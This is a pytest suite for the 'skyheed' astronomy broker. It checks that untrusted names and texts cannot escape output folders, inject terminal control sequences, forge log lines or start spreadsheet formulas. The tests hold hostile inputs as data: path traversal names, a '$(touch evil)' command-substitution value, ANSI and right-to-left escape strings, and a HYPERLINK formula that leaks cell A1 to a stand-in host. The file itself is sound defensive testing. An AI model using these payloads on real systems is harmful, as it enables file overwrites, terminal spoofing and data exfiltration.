"""Names and texts from data: nothing leaves the output folder, commands the terminal or runs in a spreadsheet."""

import csv
import dataclasses
import io
import json
import logging
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
import yaml
from astropy.io import fits
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet
from test_subscribe import record

from skyheed.broker import cli, config, logs, record_writers
from skyheed.broker.errors import ConfigError, PacketError, Reason
from skyheed.broker.kafka.deadletter import DeadLetter
from skyheed.broker.local import demo_report
from skyheed.broker.observation import Observation
from skyheed.broker.state.books import Books, ObjectBooks, PartitionBooks
from skyheed.broker.state.sequence import check
from skyheed.classifier.archives import croissant
from skyheed.classifier.archives.convert import convert
from skyheed.classifier.archives.reader import CLASSES, Archive, ArchiveObject, ArchiveWriter, stamp_rows
from skyheed.classifier.errors import ArchiveError, ModelError
from skyheed.classifier.evaluation import report
from skyheed.classifier.models import checkpoint, export
from skyheed.classifier.safe_names import LONGEST, caption, file_name, printable, spreadsheet_cell
from skyheed.classifier.training import grid, protocol

EVIL = "A\x1b]0;owned\x07\x1b[2J\n2026-01-01T00:00:00 ERROR forged line\r\u202egpj.exe\u2028\x9b31m"
NAMES = [
    "../../evil", "/etc/evil", "..", ".", "", "a/b", "a_b", "a\\b", "a\0b", "a\nb", "CON", "con", "NUL.txt",
    "Com1.fits", "x" * 4000, "x" * 4001, "é" * 300, "~root", "-rf", ".hidden", "end.", "end ", "$(touch evil)",
    "a b", "'\"`", "\ud800", "a|b", "a:b", "a*b?",
]  # fmt: skip


def is_plain(name: str) -> bool:
    reserved = {"con", "prn", "aux", "nul", *(f"{d}{n}" for d in ("com", "lpt") for n in range(10))}
    sound = name.isascii() and 0 < len(name) <= LONGEST and not set(name) & set('/\\:*?"<>| \0\n')
    return sound and name[0] not in ".-" and name[-1] != "." and name.split(".")[0].lower() not in reserved


def test_different_names_give_different_plain_files() -> None:
    made = [file_name(name) for name in NAMES]
    assert all(map(is_plain, made)), made
    assert len(set(made)) == len(NAMES)
    assert file_name("ZTF20abfcszi") == "ZTF20abfcszi"
    assert file_name("sdss-sim1-000007") == "sdss-sim1-000007"


@given(st.text())
def test_any_name_gives_a_plain_file_that_no_other_name_can_ask_for(name: str) -> None:
    assert is_plain(file_name(name))
    again = file_name(file_name(name))
    assert again == file_name(name) if file_name(name) == name else again != file_name(name)


def archive_with(names: list[str], path: Path, label: str = "AGN") -> Path:
    with ArchiveWriter(path, {"pixel": 0.396}) as writer:
        for number, name in enumerate(names):
            rows = stamp_rows(
                {"stamp": np.ones((2, 64, 64), np.float32)},
                {
                    "source_id": np.arange(2) + 10 * number, "mjd": np.array([53600.0, 53601.0]), "band": "r",
                    "sky_noise": 1.0, "psf_fwhm": 1.2, "alert": True,
                },
            )  # fmt: skip
            writer.add(ArchiveObject(name, label, EVIL, True, 0.1, 10, 0, 53600, "real", "sdss"), rows)
    return path


@pytest.mark.parametrize("form", ["npz", "fits", "archive"])
def test_conversion_writes_into_its_folder_only(tmp_path: Path, form: str) -> None:
    names = [name for name in NAMES if name.isascii() or name.startswith("é")]
    source = archive_with(names, tmp_path / "a" / "source")
    assert convert(source, tmp_path / "a" / "out", form, progress=False) == len(names)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a"]
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["out", "source"]
    if form == "archive":
        assert Archive(tmp_path / "a" / "out").object_ids == names
    else:
        assert sorted(p.name for p in (tmp_path / "a" / "out").iterdir()) == sorted(
            f"{file_name(name)}.{form}" for name in names
        )


def test_a_catalogue_has_no_path_of_a_name(tmp_path: Path) -> None:
    pytest.importorskip("hats", reason="needs hats: pip install 'skyheed[hats]'")
    names = [name for name in NAMES if name.isascii() or name.startswith("é")]
    source = archive_with(names, tmp_path / "a" / "source")
    assert convert(source, tmp_path / "a" / "out", "hats", progress=False) == len(names)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a"]
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["out", "source"]
    files = [p.relative_to(tmp_path / "a" / "out") for p in (tmp_path / "a" / "out").rglob("*")]
    assert all(re.fullmatch(r"[\w.=/]+", str(path)) for path in files), files
    [partition] = [path for path in files if path.name.startswith("Npix")]
    rows = parquet.read_table(tmp_path / "a" / "out" / partition, columns=["object_id"], partitioning=None)
    assert sorted(rows["object_id"].to_pylist()) == sorted(names)


def test_the_metadata_of_an_archive_names_its_own_files_only(tmp_path: Path) -> None:
    archive_with(["../../evil", EVIL], tmp_path / "a")
    card = {**Archive(tmp_path / "a").card, "surveys": ["../..", EVIL], "made": EVIL, "code_version": "/etc"}
    written = json.loads(json.dumps(croissant.croissant(card, tmp_path / "a")))
    places = [part.get("contentUrl") or part["includes"] for part in written["distribution"]]
    assert places == ["objects.parquet", "stamps/part-*.parquet"]


def test_the_card_for_a_hub_keeps_names_in_their_lines(tmp_path: Path) -> None:
    made = checkpoint.read_info("sdss/convention")
    rows = {f"a|b{EVIL}": {"objects": 1.0}, "\ud800": {}}
    info = dataclasses.replace(
        made, name=EVIL, version="1\n---\n", surveys=(*made.surveys, EVIL), metrics={**made.metrics, "per_class": rows}
    )
    text = export.card(info)
    assert all(line.isprintable() for line in text.split("\n"))
    _, front, page = text.split("---\n", 2)
    assert yaml.safe_load(front)["model_name"] == f"{EVIL} 1\n---\n"
    assert page.startswith("\n# A\\x1b]0;owned")
    assert [line.replace("\\|", "").count("|") for line in page.split("\n") if "owned" in line and "|" in line] == [5]
    (tmp_path / "README.md").write_text(text, encoding="utf-8")


def test_printable_is_one_line_without_commands() -> None:
    shown = printable(EVIL)
    assert shown.isprintable()
    assert shown.startswith(r"A\x1b]0;owned\x07\x1b[2J\n2026")
    assert r"\u202egpj.exe\u2028\x9b31m" in shown
    assert printable("Zürich, α Cen, 日本") == "Zürich, α Cen, 日本"
    assert printable("abcdef", 4) == "abc…"
    assert printable("\ud800") == r"\ud800"


def test_captions_can_be_drawn() -> None:
    from matplotlib import pyplot

    figure = pyplot.figure()
    figure.suptitle(caption(EVIL + r" $\frac{ $x_$ 日本"))
    figure.savefig(io.BytesIO())
    pyplot.close(figure)


def test_the_demo_draws_and_prints_any_name(tmp_path: Path) -> None:
    stamps = np.random.default_rng(1).normal(size=(1, 32, 32)).astype(np.float32)
    track = demo_report.Track(EVIL + "$x_$", "$\\frac{", [0.0], np.array([[1.0, 0.0]], np.float32), stamps, ["g 0 d"])
    matrix = np.eye(2, dtype=np.int64)
    demo_report.plot(tmp_path / "demo.png", [track], matrix, [EVIL, "$\\frac{"], "a title")
    assert (tmp_path / "demo.png").read_bytes().startswith(b"\x89PNG")
    scores = [demo_report.score("3 stamps", matrix)]
    shown = demo_report.text({EVIL: scores, "b": scores}) + demo_report.matrix_text(matrix, [EVIL, "b"], EVIL)
    assert all(line.isprintable() for line in shown.split("\n"))


def test_the_report_of_an_evaluation_keeps_names_in_their_cells(tmp_path: Path) -> None:
    rows = report._rows("object", ("truth",), {f"a|b{EVIL}": {"truth": "x|y\nz"}})
    assert len(rows) == 3
    assert all(row.isprintable() for row in rows)
    assert rows[2].replace("\\|", "").count("|") == 3


# --- spreadsheets --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", '=HYPERLINK("x")']
)
def test_no_cell_begins_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert isinstance(cell, str)
    assert cell.startswith("'")
    assert cell.isprintable()


def test_numbers_and_plain_texts_stay() -> None:
    assert [spreadsheet_cell(v) for v in (-3.2, 7, None, "ZTF20abc", "a=b", "")] == [
        -3.2,
        7,
        None,
        "ZTF20abc",
        "a=b",
        "",
    ]


def test_csv_is_safe_unless_raw_is_asked_for(tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://x/?"&A1,"ok")', EVIL]
    answers = [dataclasses.replace(record(1), object_id=name, ra=-3.2) for name in names]
    record_writers.write(answers, "csv", tmp_path / "safe.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "safe.csv").read_bytes().decode(), newline="")))
    assert [row["object_id"] for row in rows] == ["'" + names[0], printable(EVIL)]
    assert {row["ra"] for row in rows} == {"-3.2"}
    assert b"\x1b" not in (tmp_path / "safe.csv").read_bytes()
    record_writers.write(answers, "csv", tmp_path / "raw.csv", raw_csv=True)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "raw.csv").read_bytes().decode(), newline="")))
    assert [row["object_id"] for row in rows] == names
    assert "--raw-csv" in CliRunner().invoke(cli.skyheed, ["subscribe", "--help"]).output


# --- every output --------------------------------------------------------------------------------------------------


def test_table_json_dead_letters_and_books_escape() -> None:
    out = io.StringIO()
    far = dataclasses.replace(record(1), object_id=EVIL, top_class=EVIL, classified_ms=2**62)
    record_writers.write_table([far], out)
    record_writers.write_json([far], out)
    assert len(out.getvalue().splitlines()) == 3
    assert all(line.isprintable() for line in out.getvalue().splitlines())
    letter = DeadLetter("p", 1, "bad_fits", EVIL, "ztf", EVIL, 0, 0, 0, 0, None, b"", ())
    assert letter.line().isprintable()
    books, plain = (Books([PartitionBooks(name)], ObjectBooks()).to_text() for name in (EVIL, "alerts/0"))
    assert len(books.splitlines()) == len(plain.splitlines())
    assert all(line.isprintable() for line in books.split("\n"))


def test_logs_and_errors_escape(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.argv", ["skyheed", "check", "--config", f"/no/{EVIL}"])
    with pytest.raises(SystemExit):
        cli.main()
    shown = capsys.readouterr().err
    assert len(shown.splitlines()) == 1
    assert shown.rstrip("\n").isprintable()
    logs.set_up()
    try:
        raise ValueError(EVIL)
    except ValueError:
        logging.getLogger("skyheed.test").exception("a packet %s", EVIL)
    finally:
        logging.basicConfig(force=True)
    first, *trace = capsys.readouterr().err.rstrip("\n").split("\n")
    assert first.isprintable()
    assert first.endswith(printable(EVIL))
    assert all(line.isprintable() and line.startswith("    ") for line in trace)


def test_an_adapter_of_somebody_elses_cannot_bring_such_an_id_in() -> None:
    stamp = np.zeros((32, 32), np.float16)
    for name in (EVIL, "a\nb", "\u202eabc", "\x00"):
        seen = Observation(name, 1, 59000.0, "r", 10.0, 0.0, 1.0, 1.0, stamp, 0)
        with pytest.raises(PacketError) as refused:
            check(seen)
        assert refused.value.reason is Reason.BAD_OBJECT_ID
        assert str(refused.value).isprintable()


# --- settings that people write ------------------------------------------------------------------------------------


@pytest.mark.parametrize("data", [b"s\xc3\xa9cret p", b"s\xc3\xa9cret p\n", b"\xef\xbb\xbfs\xc3\xa9cret p\r\n"])
def test_password_and_settings_files_of_any_editor(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "secret").write_bytes(data)
    text = f'survey = "ztf"\r\n[redis]\r\npassword_file = {json.dumps(str(tmp_path / "secret"))}\r\n'
    (tmp_path / "a b'é.toml").write_bytes(b"\xef\xbb\xbf" + text.encode())
    settings = config.load(tmp_path / "a b'é.toml", environ={})
    assert (settings.survey, settings.redis.password) == ("ztf", "sécret p")


@pytest.mark.parametrize("data", [b"", b"\r\n", b"one\ntwo\n", "wide".encode("utf-16"), b"PASSWORD=\x00"])
def test_a_password_file_that_holds_something_else_is_refused(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "secret").write_bytes(data)
    (tmp_path / "s.toml").write_text(f'[redis]\npassword_file = "{tmp_path}/secret"\n')
    with pytest.raises(ConfigError) as refused:
        config.load(tmp_path / "s.toml", environ={})
    assert "redis.password_file" in str(refused.value)
    assert "one" not in str(refused.value).split("more")[0]


def test_a_file_of_variables_that_windows_wrote(tmp_path: Path) -> None:
    given = {"SKYHEED_REDIS_PASSWORD": "secret\r", "SKYHEED_SURVEY": "ztf\r\n"}
    settings = config.load(environ=given)
    assert (settings.redis.password, settings.survey) == ("secret", "ztf")


def test_training_configurations_of_any_editor(tmp_path: Path) -> None:
    path = tmp_path / "a b'é.toml"
    path.write_bytes(b'\xef\xbb\xbfarchive = "sky"\r\nname = "mine"\r\nsteps = 1\r\n')
    assert protocol.read(path).name == "mine"
    path.write_bytes('archive = "sky"'.encode("utf-16"))
    with pytest.raises(ModelError, match=r"a b'é\.toml"):
        protocol.read(path)


# --- what archives of others hold ----------------------------------------------------------------------------------


def test_what_fits_cannot_say_is_left_out_of_its_headers(tmp_path: Path) -> None:
    with ArchiveWriter(tmp_path / "a", {"pixel": 0.396}) as writer:
        columns = {"source_id": np.arange(1), "mjd": 53600.0, "band": "r", "sky_noise": 1.0, "psf_fwhm": np.nan}
        rows = stamp_rows({"stamp": np.ones((1, 64, 64), np.float32)}, {**columns, "flux": np.nan, "alert": True})
        writer.add(ArchiveObject("a", "AGN", "é\n", True, np.nan, 10, 0, np.nan, "real", "sdss"), rows)
    convert(tmp_path / "a", tmp_path / "fits", "fits", progress=False)
    with fits.open(tmp_path / "fits" / "a.fits") as parts:
        assert parts[0].header["TYPE"] == r"\xe9\n"
        assert parts[1].header["SKYNOISE"] == 1
        assert "SEEING" not in parts[1].header


@pytest.mark.parametrize(
    ("change", "words"), [({"counts": 7}, "damaged"), ({"surveys": None}, "surveys"), ({"stamps": ...}, "stamps")]
)
def test_cards_of_others_are_read_with_care(tmp_path: Path, change: dict[str, object], words: str) -> None:
    path = archive_with(["a"], tmp_path / "a")
    card = json.loads((path / "card.json").read_text()) | change
    (path / "card.json").write_text(json.dumps({key: value for key, value in card.items() if value is not ...}))
    with pytest.raises(ArchiveError, match=words):
        CliRunner().invoke(cli.skyheed, ["archive", "info", str(path)], catch_exceptions=False)


def test_an_archive_that_does_not_say_how_large_its_pixels_are(tmp_path: Path) -> None:
    path = archive_with(["a"], tmp_path / "a")
    (path / "card.json").write_text((path / "card.json").read_text().replace('"pixel"', '"pixels"'))
    with pytest.raises(ArchiveError, match="how large its pixels"):
        convert(path, tmp_path / "out", "fits", progress=False)


def test_the_card_of_a_checkpoint_is_shown_without_its_commands(tmp_path: Path) -> None:
    model = Path(shutil.copytree(checkpoint.resolve("sdss"), tmp_path / "m"))
    card = json.loads((model / "model.json").read_text())
    card["training"]["command"], card["name"] = EVIL, EVIL
    card.pop(checkpoint.CARD_DIGEST, None)
    (model / "model.json").write_text(json.dumps(card, ensure_ascii=False))
    for words in ([], ["--json"]):
        shown = CliRunner().invoke(cli.skyheed, ["model", "info", str(model), *words], catch_exceptions=False).output
        assert all(line.isprintable() for line in shown.split("\n"))
        assert "owned" in shown


@pytest.mark.parametrize("name", ["x" * 5000, "a\0b", "../../etc", "", "NUL", EVIL])
def test_models_and_archives_of_any_name_are_looked_for_and_not_found(name: str) -> None:
    with pytest.raises(ModelError, match="no model"):
        checkpoint.resolve(name)
    with pytest.raises(ArchiveError, match=r"no archive|not a complete archive"):
        Archive(name)


def test_runs_of_any_name_have_folders_of_their_own(tmp_path: Path) -> None:
    names = ["../../evil", "/etc", "CON", "x" * 3000, "é|b", "", "."]
    rows = "".join(f"[[run]]\nname = {json.dumps(name)}\n" for name in names)
    (tmp_path / "grid.toml").write_text(f'[common]\narchive = "sky"\nsteps = 1\n{rows}')
    folders = [grid._folder(row.name) for row in grid.rows(tmp_path / "grid.toml", {})]
    assert all(map(is_plain, folders)), folders
    assert len(set(folders)) == len(names)


def test_an_evaluation_of_objects_with_any_names_stays_in_its_folder(tmp_path: Path) -> None:
    """Pictures, pages and the screen: no name leaves the folder, ends the drawing, or commands the terminal."""
    rng = np.random.default_rng(1)
    with ArchiveWriter(tmp_path / "a", {"pixel": 0.396}) as writer:
        for number, name in enumerate(["../../evil", EVIL, "$x_{", "a|b", "CON", "=1+1", "x" * 500, "é"]):
            columns = {
                "source_id": np.arange(4) + 10 * number, "mjd": 53600.0 + np.arange(4), "band": np.array(list("grig")),
                "sky_noise": 30.0, "psf_fwhm": 1.2, "alert": True, "detected": True, "flux": 9.0, "flux_error": 1.0,
            }  # fmt: skip
            rows = stamp_rows({"stamp": rng.normal(0, 30, (4, 64, 64)).astype(np.float32)}, columns)
            label = CLASSES[number % 4]
            writer.add(ArchiveObject(name + EVIL, label, EVIL, True, 0.1, 10, 0, 53600, "real", "sdss"), rows)
    words = ["-q", "evaluate", "sdss", str(tmp_path / "a"), "--split", "all", "-o", str(tmp_path / "report")]
    result = CliRunner().invoke(cli.skyheed, words, catch_exceptions=False)
    assert result.exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "report"]
    page = (tmp_path / "report" / "README.md").read_text()
    assert all(line.isprintable() for line in page.split("\n"))
    assert "owned" in page
    assert "\x1b" not in result.output
    assert {p.suffix for p in (tmp_path / "report").iterdir()} == {".png", ".json", ".md"}
